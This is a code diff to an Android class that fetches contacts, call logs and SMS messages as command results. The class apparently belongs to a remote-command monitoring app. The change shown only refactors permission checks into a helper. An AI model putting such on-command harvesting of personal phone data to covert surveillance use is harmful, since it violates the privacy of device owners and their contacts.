@@ -2,16 +2,15 @@ package com.idsiber.eye.handlers;
 
 import android.Manifest;
 import android.content.Context;
-import android.content.pm.PackageManager;
 import android.database.Cursor;
 import android.net.Uri;
 import android.provider.CallLog;
 import android.provider.ContactsContract;
 import android.provider.Telephony;
 import android.util.Log;
-import androidx.core.app.ActivityCompat;
 
 import com.idsiber.eye.CommandResult;
+import com.idsiber.eye.DeviceCapabilities;
 
 import org.json.JSONArray;
 import org.json.JSONObject;
@@ -26,16 +25,17 @@ import java.util.Locale;
 public class PersonalDataHandler {
     private static final String TAG = "PersonalDataHandler";
     private Context context;
+    private DeviceCapabilities capabilities;
 
     public PersonalDataHandler(Context context) {
         this.context = context;
+        this.capabilities = DeviceCapabilities.getInstance(context);
     }
 
     public CommandResult getContacts() {
         try {
             // Check permission
-            if (ActivityCompat.checkSelfPermission(context, Manifest.permission.READ_CONTACTS) 
-                != PackageManager.PERMISSION_GRANTED) {
+            if (!capabilities.hasPermission(Manifest.permission.READ_CONTACTS)) {
                 return new CommandResult(false, "Contacts permission not granted", null);
             }
 
@@ -87,8 +87,7 @@ public class PersonalDataHandler {
     public CommandResult getCallLogs() {
         try {
             // Check permission
-            if (ActivityCompat.checkSelfPermission(context, Manifest.permission.READ_CALL_LOG) 
-                != PackageManager.PERMISSION_GRANTED) {
+            if (!capabilities.hasPermission(Manifest.permission.READ_CALL_LOG)) {
                 return new CommandResult(false, "Call log permission not granted", null);
             }
 
@@ -146,8 +145,7 @@ public class PersonalDataHandler {
     public CommandResult getSmsMessages() {
         try {
             // Check permission
-            if (ActivityCompat.checkSelfPermission(context, Manifest.permission.READ_SMS) 
-                != PackageManager.PERMISSION_GRANTED) {
+            if (!capabilities.hasPermission(Manifest.permission.READ_SMS)) {
                 return new CommandResult(false, "SMS permission not granted", null);
             }
 